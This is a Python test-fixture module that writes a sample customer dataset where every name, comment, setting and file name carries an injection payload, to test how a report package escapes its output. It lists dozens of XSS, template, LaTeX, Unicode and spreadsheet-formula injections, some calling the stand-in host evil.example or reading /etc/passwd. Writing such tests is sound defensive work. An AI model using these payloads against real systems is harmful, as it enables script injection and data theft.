"""Texts that try to be more than text, and a company that has them in every name and comment."""

from __future__ import annotations

import json
import tomllib
from itertools import count
from pathlib import Path
from typing import Any

import pandas as pd

from cxanalysis.config.study import DEFAULT_STAGES

REPORTS = ("cx_report", "service_report", "journey_report")
SAMPLE = Path(__file__).parents[1] / "data" / "sample"
CUSTOMERS = 700  # of the sample's
MARK = "zz9"  # in every attack, so that a trace of one is found
SMALL = 7  # rows of a group that is too small
SMALL_RATINGS = (1, 1, 2, 2, 2, 3, 4)  # whose mean, 2.142857, is no other group's
MIN_BASE = 10
KEYED = {"reasons", "actions", "own_scores", "reply_hours"}  # settings with names for keys
TABLES = ("customers", "journeys", "surveys", "tickets")

# Each calls, loads or closes something where it is taken for markup, script, style or formula.
ATTACKS = (
    "<script>alert('zz9')</script>",
    "<ScRiPt src=//evil.example/zz9.js></sCrIpT>",
    "<scr<script>ipt>alert('zz9')</scr</script>ipt>",
    "</script><script>alert('zz9')</script>",
    "</style><script>alert('zz9')</script>",
    "</title><script>alert('zz9')</script>",
    "</textarea><img src=x onerror=alert('zz9')>",
    "--><img src=x onerror=alert('zz9')>",
    "]]><img src=x onerror=alert('zz9')>",
    "<!--><img src=x onerror=alert('zz9')>",
    "<img src=x onerror=alert('zz9')>",
    "<img src='https://evil.example/zz9.png'>",
    "<img/src=`x`/onerror=alert('zz9')>",
    '<IMG """><SCRIPT>alert(\'zz9\')</SCRIPT>">',
    "<img srcset='https://evil.example/zz9.png 2x'>",
    "<picture><source srcset=https://evil.example/zz9></picture>",
    "<svg onload=alert('zz9')>",
    "<svg><script>alert('zz9')</script></svg>",
    "<svg><animate onbegin=alert('zz9') attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert('zz9')><text y=9>go</text></a></svg>",
    "<math href=javascript:alert('zz9')>go</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('zz9')>",
    "<a href=javascript:alert('zz9')>go</a>",
    "<a href='java\tscript:alert(`zz9`)'>go</a>",
    "<a href='&#106;avascript:alert(`zz9`)'>go</a>",
    "<a href='data:text/html,<script>alert(`zz9`)</script>'>go</a>",
    "<a href='vbscript:msgbox(`zz9`)'>go</a>",
    "[go](javascript:alert('zz9'))",
    "[go](https://evil.example/zz9 'x')",
    "![go](https://evil.example/zz9.png)",
    "[go]: javascript:alert('zz9')",
    "<javascript:alert('zz9')>",
    "**zz9** *zz9* `zz9` # zz9",
    "\" onmouseover=alert('zz9') x=\"",
    "' autofocus onfocus=alert('zz9') x='",
    "\"><img src=x onerror=alert('zz9')>",
    "'><svg/onload=alert('zz9')>",
    "x` onclick=alert('zz9') `",
    "<p style=background:url(https://evil.example/zz9)>",
    "<div style='width:expression(alert(`zz9`))'>",
    "<style>@import url(https://evil.example/zz9.css);</style>",
    "<link rel=stylesheet href=https://evil.example/zz9.css>",
    "<iframe src=javascript:alert('zz9')></iframe>",
    "<iframe srcdoc='<script>alert(`zz9`)</script>'></iframe>",
    "<object data=https://evil.example/zz9></object>",
    "<embed src=https://evil.example/zz9>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/zz9'>",
    "<base href=https://evil.example/zz9/>",
    "<form action=https://evil.example/zz9><button autofocus>go</form>",
    "<input autofocus onfocus=alert('zz9')>",
    "<details open ontoggle=alert('zz9')>",
    "<video><source onerror=alert('zz9')></video>",
    "<body onload=alert('zz9')>",
    "<template><img src=x onerror=alert('zz9')></template>",
    "{{ zz9.__class__ }}{% include '/etc/passwd' %}",
    "${alert('zz9')} #{alert('zz9')} <%= alert('zz9') %>",
    "%s %(zz9)s {0} {zz9!r} \\n \\u003cscript\\u003e",
    "$\\href{javascript:alert('zz9')}{go}$ $\\frac{zz9}$",
    "\\(\\href{javascript:alert('zz9')}{go}\\) \\[\\unicode{zz9}\\]",
    "$$\\require{html}\\class{zz9}{x}$$ \\input{/etc/passwd}",
    "&lt;script&gt;alert('zz9')&lt;/script&gt;",
    "&#60;img src=x onerror=alert('zz9')&#62;",
    "\uff1cscript\uff1ealert('zz9')\uff1c/script\uff1e",
    "\u202egnp.zz9\u202c\u2066evil\u2069",
    "\u0000<img src=x onerror=alert('zz9')>",
    '=HYPERLINK("https://evil.example/zz9","go")',
    "@SUM(1)+zz9|' /C calc'!A0",
)


def hostile_company(folder: Path) -> Path:
    """Write the sample company with an attack for every name, and return its study file."""
    taken = count()
    names: dict[str, str] = {}

    def attack(name: str) -> str:
        """Another attack for each name; the name itself stays in it, so that all differ."""
        if name not in names:
            chosen = ATTACKS[next(taken) % len(ATTACKS)]
            names[name] = f"{chosen} {name}"
        return names[name]

    names |= {f"team {n}": f"{ATTACKS[-1 - n]} team {n}" for n in range(3)}
    # Stages become columns, and the engine takes what stands before a full stop for a table.
    for stage in DEFAULT_STAGES:
        names[stage] = attack(stage).replace(".", " ")

    frames = {name: pd.read_csv(SAMPLE / f"{name}.csv", dtype=str) for name in TABLES}
    some = set(frames["customers"]["customer_id"][:CUSTOMERS])
    frames = {n: f[f["customer_id"].isin(some)].reset_index(drop=True) for n, f in frames.items()}
    tickets, surveys = frames["tickets"], frames["surveys"]
    tickets["team"] = [f"team {n % 3}" for n in range(len(tickets))]
    surveys["wave"] = [f"wave {n % 3}" for n in range(len(surveys))]
    add_small_groups(frames)
    columns = {
        "customers": ("plan", "region", "preferred_channel"),
        "journeys": ("stage", "touchpoint", "channel"),
        "surveys": ("wave",),
        "tickets": ("channel", "reason", "team"),
    }
    for table, named in columns.items():
        for column in named:
            frames[table][column] = frames[table][column].map(attack, na_action="ignore")
    said = surveys["comment"].notna()
    surveys.loc[said, "comment"] = [ATTACKS[n % len(ATTACKS)] for n in range(said.sum())]
    bad = tickets.index[~in_quarter(tickets["opened_at"])][:60]
    tickets.loc[bad, "csat"] = [ATTACKS[n % len(ATTACKS)] for n in range(len(bad))]
    settings = renamed(tomllib.loads((SAMPLE / "study.toml").read_text(encoding="utf-8")), names)
    settings["name"] = f"Acme {ATTACKS[10]} {ATTACKS[63]} {ATTACKS[4]}"
    settings["limits"] = {"bad_rows": 0.5}
    settings["metrics"]["min_base"] = MIN_BASE
    settings["model"]["replicates"] = 200
    for number, action in enumerate(settings["actions"].values()):
        action["owner"] = f"{ATTACKS[20 + number]} owner"
    for number, benchmark in enumerate(settings["benchmarks"]):
        benchmark["source"] = f"{ATTACKS[30 + number]} source"
    for table, frame in frames.items():
        frame[f"<img src=x onerror=alert('{MARK}')> of {table}"] = "x"
        file = f"{table} <img src=x onerror=alert(`{MARK}`)> & {{{{x}}}}.csv"
        written = frame.replace("\x00", "", regex=True)  # which no export holds
        written.to_csv(folder / file, index=False)
        settings["tables"][table]["path"] = file
    study = folder / "study.toml"
    lines = [f"{json.dumps(key)} = {toml(item)}" for key, item in settings.items()]
    study.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return study


def add_small_groups(frames: dict[str, pd.DataFrame]) -> None:
    """Name a few rows of the last quarter apart: too few for any figure on them."""
    journeys, tickets = frames["journeys"], frames["tickets"]
    touches = journeys.index[journeys["rating"].notna() & in_quarter(journeys["occurred_at"])]
    journeys.loc[touches[:SMALL], "touchpoint"] = "small place"
    journeys.loc[touches[:SMALL], "rating"] = [str(rating) for rating in SMALL_RATINGS]
    journeys.loc[touches[SMALL : 2 * SMALL], "channel"] = "small channel"
    contacts = tickets.index[tickets["csat"].notna() & in_quarter(tickets["opened_at"])]
    tickets.loc[contacts[:SMALL], "team"] = "small team"
    tickets.loc[contacts[:SMALL], "csat"] = [str(rating) for rating in SMALL_RATINGS]
    tickets.loc[contacts[SMALL : 2 * SMALL], "reason"] = "small reason"
    tickets.loc[contacts[2 * SMALL : 3 * SMALL], "channel"] = "small channel"


def in_quarter(times: pd.Series[str]) -> pd.Series[bool]:
    """Whether times written as texts lie within the sample's last quarter."""
    return times.between("2026-07-02", "2026-09-30")


def renamed(item: Any, names: dict[str, str], keys: bool = False) -> Any:
    """Settings with the attacks in place of what they name; ``keys`` where keys are names too."""
    if isinstance(item, dict):
        return {
            names.get(key, key) if keys else key: renamed(value, names, key in KEYED)
            for key, value in item.items()
        }
    if isinstance(item, list):
        return [renamed(value, names) for value in item]
    return names.get(item, item) if isinstance(item, str) else item


def toml(item: Any) -> str:
    """A value as TOML."""
    if isinstance(item, dict):
        return "{ " + ", ".join(f"{json.dumps(k)} = {toml(v)}" for k, v in item.items()) + " }"
    if isinstance(item, list):
        return "[" + ", ".join(map(toml, item)) + "]"
    return json.dumps(item, ensure_ascii=False)
